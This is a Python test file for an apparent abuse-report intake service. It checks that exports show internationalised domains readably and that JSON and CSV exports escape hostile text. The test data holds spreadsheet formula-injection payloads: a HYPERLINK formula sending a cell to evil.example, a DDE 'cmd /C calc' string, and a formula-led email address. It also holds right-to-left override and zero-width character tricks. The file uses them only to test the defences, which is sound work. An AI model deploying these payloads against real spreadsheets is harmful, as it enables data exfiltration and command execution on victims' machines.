"""What analysts get from the intake: the contract's fields, readable domains, safe whatever the text."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import time
from pathlib import Path

from iwf_widget import protocol
from iwf_widget.intake import create_app
from iwf_widget.intake.store import Store
from iwf_widget.intake.validate import Report
from iwf_widget.sealing import Sealer

KEY = "export-key-0123456789abcdef"


def test_export_shows_international_domains_readable_beside_punycode(tmp_path, keypair):
    app = create_app(
        {
            "IWF_INTAKE_DB_URL": f"sqlite:///{tmp_path}/intake.db",
            "IWF_INTAKE_PRIVATE_KEY": keypair[0],
            "IWF_INTAKE_PARTNERS": json.dumps({"partner-x": [KEY]}),
        }
    )
    rid = "ab" * 16
    sealed = Sealer(keypair[1]).seal(
        {
            "v": 1,
            "id": rid,
            "partner": "partner-x",
            "locale": "uk",
            "created": int(time.time()) // 60 * 60,
            "urls": ["https://xn--bcher-kva.example/a", "https://example.com/b"],
            "content_kind": "images",
            "where_seen": "forum",
            "description": "",
            "contact_email": "",
        }
    )
    body = protocol.encode_batch("partner-x", [(rid, sealed)])
    r = app.test_client().post(protocol.PATH, data=body, headers=protocol.request_headers("partner-x", KEY, body))
    assert r.status_code == 200
    (row,) = app.extensions["iwf_intake"].store.export()
    assert row["urls"] == ["https://xn--bcher-kva.example/a", "https://example.com/b"]
    assert row["urls_readable"] == ["https://bücher.example/a", "https://example.com/b"]
    for field in (
        "id",
        "partner",
        "locale",
        "created",
        "urls",
        "content_kind",
        "where_seen",
        "description",
        "contact_email",
    ):
        assert field in row
    assert row["locale"] == "uk" and row["created"].endswith("Z")


# -- hostile content -------------------------------------------------------------

ROOT = Path(__file__).resolve().parent.parent
#: What a hostile reporter (or an older, laxer version) may have left in the database.
HOSTILE_DESCRIPTIONS = [
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tindented=1",
    "\r=1+1",
    "first\nsecond\r\nthird",
    "para\u2028graph\u2029break\x85next\x0bvertical\x0cfeed\x1cfile\x1dgroup\x1erecord",
    "file\u202egpj.exe looks harmless",
    "zero\u200bwidth\u2066isolate\u2069\ufeff",
    "astral tag \U000e0041 end",
    'quote " comma , back\\slash',
]
HOSTILE_EMAIL = "=1+1@evil.example"


def hostile_database(tmp_path: Path) -> tuple[dict[str, str], list[Report]]:
    """A real intake database holding one report per hostile description; the export's environment."""
    url = f"sqlite:///{tmp_path}/intake.db"
    store = Store(url)
    created = int(time.time()) // 60 * 60
    stored = [
        Report(
            id=f"{n:032x}",
            partner="partner-x",
            locale="ar",
            created=created,
            urls=[f"https://example.com/{n}?q=%0A", "https://xn--bcher-kva.example/=x"],
            content_kind="images",
            where_seen="forum",
            description=text,
            contact_email=HOSTILE_EMAIL if n == 0 else "",
        )
        for n, text in enumerate(HOSTILE_DESCRIPTIONS)
    ]
    store.put("partner-x", stored)
    store.close()
    env = {**os.environ, "PYTHONPATH": str(ROOT), "PYTHONIOENCODING": "utf-8", "IWF_INTAKE_DB_URL": url}
    return env, stored


def export(env: dict[str, str], *args: str) -> str:
    done = subprocess.run(
        [sys.executable, "-m", "iwf_widget.cli", "intake-export", *args],
        env=env,
        capture_output=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == 0, done.stderr.decode(errors="replace")
    return done.stdout.decode("utf-8")


def test_json_export_keeps_each_report_on_one_line_whatever_its_text(tmp_path):
    env, stored = hostile_database(tmp_path)
    out = export(env)
    lines = out.splitlines()  # splits on U+2028, U+0085, \x1c... as well as \n
    assert len(lines) == len(stored)
    assert out.count("\n") == len(stored)
    for line, report in zip(lines, stored, strict=True):
        row = json.loads(line)
        assert row["description"] == report.description  # nothing lost, only escaped
        assert row["urls"] == report.urls
    assert "\u2028" not in out and "\u202e" not in out and "\u200b" not in out and "\U000e0041" not in out
    assert "\\u202e" in out and "\\udb40\\udc41" in out
    assert "https://bücher.example/=x" in out, "readable text stays readable"


def test_csv_export_has_no_cell_a_spreadsheet_reads_as_a_formula(tmp_path):
    env, stored = hostile_database(tmp_path)
    out = export(env, "--csv")
    lines = out.splitlines()
    assert len(lines) == len(stored) + 1 and out.count("\n") == len(stored) + 1
    rows = list(csv.DictReader(io.StringIO(out)))
    assert len(rows) == len(stored)
    for row, report in zip(rows, stored, strict=True):
        for name, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, value)
            assert not any(c in value for c in "\n\r\t\u2028\u2029\x85\u202e\u200b"), (name, value)
        assert row["id"] == report.id and row["reference"]
    by_text = {r.description: row["description"] for r, row in zip(stored, rows, strict=True)}
    assert by_text['=HYPERLINK("https://evil.example/?"&A1,"open")'].startswith("'=HYPERLINK(")
    assert by_text["-2+3"] == "'-2+3"
    assert by_text["first\nsecond\r\nthird"] == "first\\nsecond\\r\\nthird"
    assert by_text["file\u202egpj.exe looks harmless"] == "file\\u202egpj.exe looks harmless"
    assert by_text['quote " comma , back\\slash'] == 'quote " comma , back\\\\slash'
    assert rows[0]["contact_email"] == "'=1+1@evil.example"
    assert rows[0]["urls"] == "https://example.com/0?q=%0A https://xn--bcher-kva.example/=x"
